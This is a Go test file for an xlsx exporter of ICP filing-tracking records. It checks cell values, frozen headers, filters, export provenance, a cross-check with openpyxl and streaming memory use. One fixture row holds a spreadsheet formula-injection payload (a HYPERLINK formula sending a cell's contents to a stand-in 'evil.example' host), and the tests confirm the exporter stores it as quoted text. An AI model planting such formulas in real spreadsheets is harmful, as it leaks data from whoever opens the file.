package xlsx_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/beian/beian/xlsx"
)

// pages hands rows out in pages of size, then an empty page, as a store
// query by key would; it counts the calls.
func pages[T any](rows []T, size int, calls *int) func() ([]T, error) {
	return func() ([]T, error) {
		*calls++
		if len(rows) == 0 {
			return nil, nil
		}
		n := min(size, len(rows))
		page := rows[:n:n]
		rows = rows[n:]
		return page, nil
	}
}

// exportMeta is who exported the sheets in these tests.
var exportMeta = xlsx.ExportMeta{
	By:     "张三（specialist）",
	At:     time.Date(2026, 11, 30, 16, 0, 0, 0, time.FixedZone("CST", 8*3600)),
	Filter: "省份：全部；状态：全部；日期：2026-11-01 至 2026-11-30",
}

const wantDescription = "导出人：张三（specialist）；导出时间：2026-11-30 16:00:00；条件：省份：全部；状态：全部；日期：2026-11-01 至 2026-11-30"

func sampleTracking() []xlsx.TrackingRow {
	return []xlsx.TrackingRow{
		{SponsorName: "苏州示例科技有限公司", PrincipalName: "张三", Domains: []string{"example.cn", "www.example.cn"},
			IPs: []string{"198.51.100.7", "2001:db8:1::7"}, Type: "新增备案", BureauProvince: "江苏",
			BureauReceived: true, Approved: true, FilingNumber: "苏ICP备2026000001号"},
		{SponsorName: `=HYPERLINK("http://evil.example/?d="&C2,"点击查看")`, PrincipalName: "李四", Domains: []string{"evil-example.cn"},
			IPs: []string{"203.0.113.9"}, Type: "新增备案", BureauProvince: "浙江", BureauReceived: true, Returned: true},
		{SponsorName: "＋合肥某某网络有限公司", PrincipalName: "@王五", Type: "变更备案", BureauProvince: "安徽"},
		{SponsorName: "上海某某信息技术有限公司", PrincipalName: "赵六", Domains: []string{"shmm.com.cn"}, IPs: []string{"198.51.100.8"},
			Type: "转移/接入", BureauProvince: "上海", BureauReceived: true, Approved: true, FilingNumber: "沪ICP备2019000123号-2"},
	}
}

// wantTracking is what staff see in sampleTracking's sheet, row by row
// (trailing blank cells left off, as the readers do).
var wantTracking = [][]string{
	xlsx.TrackingColumns,
	{"苏州示例科技有限公司", "张三", "example.cn、www.example.cn", "198.51.100.7、2001:db8:1::7", "新增备案", "江苏", "是", "否", "是", "苏ICP备2026000001号"},
	{`'=HYPERLINK("http://evil.example/?d="&C2,"点击查看")`, "李四", "evil-example.cn", "203.0.113.9", "新增备案", "浙江", "是", "是", "否"},
	{"'＋合肥某某网络有限公司", "'@王五", "", "", "变更备案", "安徽", "否", "否", "否"},
	{"上海某某信息技术有限公司", "赵六", "shmm.com.cn", "198.51.100.8", "转移/接入", "上海", "是", "否", "是", "沪ICP备2019000123号-2"},
}

// wantInfo is the export information sheet of a workbook of n rows.
func wantInfo(n int) [][]string {
	return [][]string{
		{"导出人", "张三（specialist）"},
		{"导出时间", "2026-11-30 16:00:00"},
		{"导出条件", "省份：全部；状态：全部；日期：2026-11-01 至 2026-11-30"},
		{"行数", fmt.Sprint(n)},
		{"说明", "本表含个人信息，仅限备案工作使用，不得外传"},
	}
}

func writeTracking(t *testing.T, rows []xlsx.TrackingRow, size int) []byte {
	t.Helper()
	var buf bytes.Buffer
	calls := 0
	require.NoError(t, xlsx.WriteTracking(&buf, exportMeta, pages(rows, size, &calls)))
	require.Equal(t, (len(rows)+size-1)/size+1, calls, "next is called until it returns an empty page, and not after")
	return buf.Bytes()
}

// sheetXML is the XML of the n-th worksheet part in an .xlsx.
func sheetXML(t *testing.T, data []byte, n int) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	rc, err := zr.Open(fmt.Sprintf("xl/worksheets/sheet%d.xml", n))
	require.NoError(t, err)
	defer rc.Close()
	b, err := io.ReadAll(rc)
	require.NoError(t, err)
	return string(b)
}

// requireLayout checks the layout staff rely on: the header frozen above
// the data, the filter over header and data (as the sheet's autoFilter
// element, which Excel and WPS read, not only the defined name), the
// columns wide enough and in ascending order.
func requireLayout(t *testing.T, f *excelize.File, data []byte, sheet string, headerRow int, filter string, widths map[string]float64) {
	t.Helper()
	panes, err := f.GetPanes(sheet)
	require.NoError(t, err)
	require.True(t, panes.Freeze)
	require.Equal(t, headerRow, panes.YSplit)
	require.Equal(t, fmt.Sprintf("A%d", headerRow+1), panes.TopLeftCell)
	x := sheetXML(t, data, 1)
	require.Contains(t, x, `<autoFilter ref="`+filter+`">`)
	for col, want := range widths {
		got, err := f.GetColWidth(sheet, col)
		require.NoError(t, err)
		require.Equal(t, want, got, "width of column %s", col)
	}
	require.Less(t, strings.Index(x, `<col min="1"`), strings.Index(x, `<col min="2"`), "columns in ascending order")
}

// requireProvenance checks that the workbook says who exported it (issue 12).
func requireProvenance(t *testing.T, f *excelize.File, title string, rows int) {
	t.Helper()
	props, err := f.GetDocProps()
	require.NoError(t, err)
	require.Equal(t, "张三（specialist）", props.Creator)
	require.Equal(t, "张三（specialist）", props.LastModifiedBy)
	require.Equal(t, "2026-11-30T08:00:00Z", props.Created)
	require.Equal(t, wantDescription, props.Description)
	require.Equal(t, "含个人信息 导出人 张三（specialist） 导出时间 2026-11-30 16:00:00", props.Keywords)
	require.Equal(t, title, props.Title)
	info, err := f.GetRows(xlsx.ExportInfoSheet)
	require.NoError(t, err)
	require.Equal(t, wantInfo(rows), info)
	require.Equal(t, 0, f.GetActiveSheetIndex(), "the workbook opens on its data")
}

// TestTrackingRoundTrip (R-BR-5): every cell of the tracking worksheet
// reads back as written, under exactly the ten headers, with 是/否, lists
// joined with 、 and formula-looking text kept as text.
func TestTrackingRoundTrip(t *testing.T) {
	t.Parallel()
	data := writeTracking(t, sampleTracking(), 3)
	f, err := excelize.OpenReader(bytes.NewReader(data))
	require.NoError(t, err)
	defer f.Close()
	require.Equal(t, []string{xlsx.TrackingSheet, xlsx.ExportInfoSheet}, f.GetSheetList())
	rows, err := f.GetRows(xlsx.TrackingSheet)
	require.NoError(t, err)
	require.Equal(t, xlsx.TrackingColumns, rows[0], "the header is exactly R-BR-5's")
	require.Len(t, xlsx.TrackingColumns, 10)
	require.Equal(t, wantTracking, rows)

	// The filer's =HYPERLINK(…) is text: no formula, and quoted.
	for _, cell := range []string{"A3", "A4", "B4"} {
		formula, err := f.GetCellFormula(xlsx.TrackingSheet, cell)
		require.NoError(t, err)
		require.Empty(t, formula, cell)
		v, err := f.GetCellValue(xlsx.TrackingSheet, cell)
		require.NoError(t, err)
		require.True(t, strings.HasPrefix(v, "'"), "%s = %q", cell, v)
	}
	requireLayout(t, f, data, xlsx.TrackingSheet, 1, "$A$1:$J$5", map[string]float64{"A": 34, "C": 34, "F": 23, "G": 23})
	requireProvenance(t, f, "备案跟踪表（R-BR-5）", 4)
}

// TestTrackingEmpty: no case still gives the header, filterable.
func TestTrackingEmpty(t *testing.T) {
	t.Parallel()
	data := writeTracking(t, nil, 1000)
	f, err := excelize.OpenReader(bytes.NewReader(data))
	require.NoError(t, err)
	defer f.Close()
	rows, err := f.GetRows(xlsx.TrackingSheet)
	require.NoError(t, err)
	require.Equal(t, [][]string{xlsx.TrackingColumns}, rows)
	require.Contains(t, sheetXML(t, data, 1), `<autoFilter ref="$A$1:$J$1">`)
	requireProvenance(t, f, "备案跟踪表（R-BR-5）", 0)
}

// TestTrackingErrors: a failing page and a missing exporter stop the
// export.
func TestTrackingErrors(t *testing.T) {
	t.Parallel()
	boom := errors.New("store down")
	calls := 0
	err := xlsx.WriteTracking(io.Discard, exportMeta, func() ([]xlsx.TrackingRow, error) {
		calls++
		if calls == 2 {
			return nil, boom
		}
		return sampleTracking(), nil
	})
	require.ErrorIs(t, err, boom)
	for _, m := range []xlsx.ExportMeta{{At: exportMeta.At}, {By: " ", At: exportMeta.At}, {By: "张三"}} {
		err := xlsx.WriteTracking(io.Discard, m, pages(sampleTracking(), 10, new(int)))
		require.ErrorIs(t, err, xlsx.ErrNoExporter, "%+v", m)
	}
}

// openpyxlDump is the second reader: openpyxl, a Python implementation
// that shares no code with excelize, prints every sheet as JSON.
const openpyxlDump = `
import datetime, json, sys
import openpyxl

wb = openpyxl.load_workbook(sys.argv[1])
out = {"sheets": []}
for ws in wb.worksheets:
    rows, formulas = [], []
    for row in ws.iter_rows(min_row=1, min_col=1):
        cells = []
        for c in row:
            v = c.value
            if c.data_type == "f":
                formulas.append(c.coordinate)
            if v is None:
                v = ""
            elif isinstance(v, datetime.datetime):
                v = v.strftime("%Y-%m-%d") if v.time() == datetime.time() else v.isoformat(" ")
            cells.append(str(v))
        while cells and cells[-1] == "":
            cells.pop()
        rows.append(cells)
    while rows and not rows[-1]:
        rows.pop()
    out["sheets"].append({
        "name": ws.title, "rows": rows, "formulas": formulas,
        "freeze": ws.freeze_panes or "",
        "autofilter": (ws.auto_filter.ref or "").replace("$", ""),
        "merged": sorted(str(m) for m in ws.merged_cells.ranges),
    })
p = wb.properties
out["creator"], out["last_modified_by"], out["description"] = p.creator, p.lastModifiedBy, p.description
out["created"] = p.created.strftime("%Y-%m-%dT%H:%M:%SZ") if p.created else ""
print(json.dumps(out, ensure_ascii=False))
`

type openpyxlSheet struct {
	Name       string     `json:"name"`
	Rows       [][]string `json:"rows"`
	Formulas   []string   `json:"formulas"`
	Freeze     string     `json:"freeze"`
	AutoFilter string     `json:"autofilter"`
	Merged     []string   `json:"merged"`
}

type openpyxlBook struct {
	Sheets         []openpyxlSheet `json:"sheets"`
	Creator        string          `json:"creator"`
	LastModifiedBy string          `json:"last_modified_by"`
	Description    string          `json:"description"`
	Created        string          `json:"created"`
}

// pythonWithOpenpyxl is a python3 that can import openpyxl: the one on
// PATH, else Debian's /usr/bin/python3, for which scripts/ensure-packages.sh
// installs python3-openpyxl (a pyenv python3 first on PATH does not see
// Debian's packages). Without one the test is skipped, saying why.
func pythonWithOpenpyxl(t *testing.T) string {
	t.Helper()
	var found []string
	for _, name := range []string{"python3", "/usr/bin/python3"} {
		p, err := exec.LookPath(name)
		if err != nil {
			continue
		}
		found = append(found, p)
		if exec.Command(p, "-c", "import openpyxl").Run() == nil {
			return p
		}
	}
	if len(found) == 0 {
		t.Skipf("second reader (openpyxl) skipped: no python3 on PATH or at /usr/bin/python3; scripts/ensure-packages.sh installs python3-openpyxl for make test")
	}
	t.Skipf("second reader (openpyxl) skipped: %s cannot import openpyxl; run 'apt-get install -y python3-openpyxl' (scripts/ensure-packages.sh does for make test)", strings.Join(found, " and "))
	return ""
}

// readWithOpenpyxl reads an .xlsx with openpyxl.
func readWithOpenpyxl(t *testing.T, data []byte) openpyxlBook {
	t.Helper()
	py := pythonWithOpenpyxl(t)
	path := filepath.Join(t.TempDir(), "export.xlsx")
	require.NoError(t, os.WriteFile(path, data, 0o600))
	var stderr bytes.Buffer
	cmd := exec.Command(py, "-c", openpyxlDump, path)
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	require.NoError(t, err, "openpyxl: %s", stderr.String())
	var book openpyxlBook
	require.NoError(t, json.Unmarshal(out, &book), "%s", out)
	return book
}

// requireOpenpyxlProvenance checks what openpyxl reads of who exported.
func requireOpenpyxlProvenance(t *testing.T, book openpyxlBook, rows int) {
	t.Helper()
	require.Equal(t, "张三（specialist）", book.Creator)
	require.Equal(t, "张三（specialist）", book.LastModifiedBy)
	require.Equal(t, wantDescription, book.Description)
	require.Equal(t, "2026-11-30T08:00:00Z", book.Created)
	require.Len(t, book.Sheets, 2)
	require.Equal(t, xlsx.ExportInfoSheet, book.Sheets[1].Name)
	require.Equal(t, wantInfo(rows), book.Sheets[1].Rows)
}

// TestTrackingOpenpyxl (R-BR-5): a second, independent reader sees the
// same cells, no formula, the frozen header and the filter.
func TestTrackingOpenpyxl(t *testing.T) {
	t.Parallel()
	book := readWithOpenpyxl(t, writeTracking(t, sampleTracking(), 2))
	s := book.Sheets[0]
	require.Equal(t, xlsx.TrackingSheet, s.Name)
	require.Equal(t, wantTracking, s.Rows)
	require.Empty(t, s.Formulas)
	require.Equal(t, "A2", s.Freeze)
	require.Equal(t, "A1:J5", s.AutoFilter)
	requireOpenpyxlProvenance(t, book, 4)
}

// bigTrackingRow is row i of the large export.
func bigTrackingRow(i int) xlsx.TrackingRow {
	provinces := []string{"江苏", "浙江", "上海", "安徽", "广东"}
	r := xlsx.TrackingRow{
		SponsorName: fmt.Sprintf("%s示例第%05d号网络科技有限公司", provinces[i%5], i), PrincipalName: "王小明",
		Domains: []string{fmt.Sprintf("site%05d.cn", i)}, IPs: []string{fmt.Sprintf("198.51.%d.%d", i/250%250, i%250+1)},
		Type: "新增备案", BureauProvince: provinces[i%5], BureauReceived: i%3 != 0, Returned: i%7 == 0, Approved: i%2 == 0,
	}
	if i%10 == 0 {
		r.SponsorName = "=" + r.SponsorName
		r.Domains = append(r.Domains, fmt.Sprintf("www.site%05d.cn", i))
	}
	if r.Approved {
		r.FilingNumber = fmt.Sprintf("苏ICP备2026%06d号-1", i)
	}
	return r
}

// wantBigRow is what staff see in row i of the large export.
func wantBigRow(i int) []string {
	r := bigTrackingRow(i)
	name := r.SponsorName
	if i%10 == 0 {
		name = "'" + name
	}
	row := []string{name, r.PrincipalName, strings.Join(r.Domains, "、"), r.IPs[0], r.Type, r.BureauProvince,
		map[bool]string{true: "是", false: "否"}[r.BureauReceived], map[bool]string{true: "是", false: "否"}[r.Returned],
		map[bool]string{true: "是", false: "否"}[r.Approved]}
	if r.FilingNumber != "" {
		row = append(row, r.FilingNumber)
	}
	return row
}

// liveHeap is the heap in use after a collection.
func liveHeap() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// TestTrackingLargeExport (R-BR-5): 20,000 cases in pages of 1,000 are
// written and read back whole, and the export stays streamed: the heap
// that is live while the pages come in stays under 40 MB over what it was
// before (an excelize sheet built in memory holds about 58 MB for these
// rows; the stream holds a buffer of at most 16 MB, then spills to a
// temporary file). Not parallel: the heap is measured, so the process is
// left to this test (parallel tests run after it).
func TestTrackingLargeExport(t *testing.T) {
	const n, size = 20_000, 1_000
	base := liveHeap()
	var peak uint64
	made, calls := 0, 0
	next := func() ([]xlsx.TrackingRow, error) {
		calls++
		peak = max(peak, liveHeap())
		if made == n {
			return nil, nil
		}
		page := make([]xlsx.TrackingRow, size)
		for i := range page {
			page[i] = bigTrackingRow(made + i)
		}
		made += size
		return page, nil
	}
	path := filepath.Join(t.TempDir(), "tracking.xlsx")
	out, err := os.Create(path)
	require.NoError(t, err)
	require.NoError(t, xlsx.WriteTracking(out, exportMeta, next))
	require.NoError(t, out.Close())
	require.Equal(t, n/size+1, calls)
	growth := float64(peak-min(base, peak)) / (1 << 20)
	t.Logf("live heap while streaming %d rows: %.1f MB over the start", n, growth)
	require.Less(t, growth, 40.0, "the export holds its rows in memory")

	f, err := excelize.OpenFile(path)
	require.NoError(t, err)
	defer f.Close()
	rows, err := f.Rows(xlsx.TrackingSheet)
	require.NoError(t, err)
	defer rows.Close()
	i := -1
	for rows.Next() {
		cols, err := rows.Columns()
		require.NoError(t, err)
		if i == -1 {
			require.Equal(t, xlsx.TrackingColumns, cols)
		} else {
			require.Equal(t, wantBigRow(i), cols, "row %d", i+2)
		}
		i++
	}
	require.NoError(t, rows.Error())
	require.Equal(t, n, i)
	info, err := f.GetRows(xlsx.ExportInfoSheet)
	require.NoError(t, err)
	require.Equal(t, wantInfo(n), info)
}
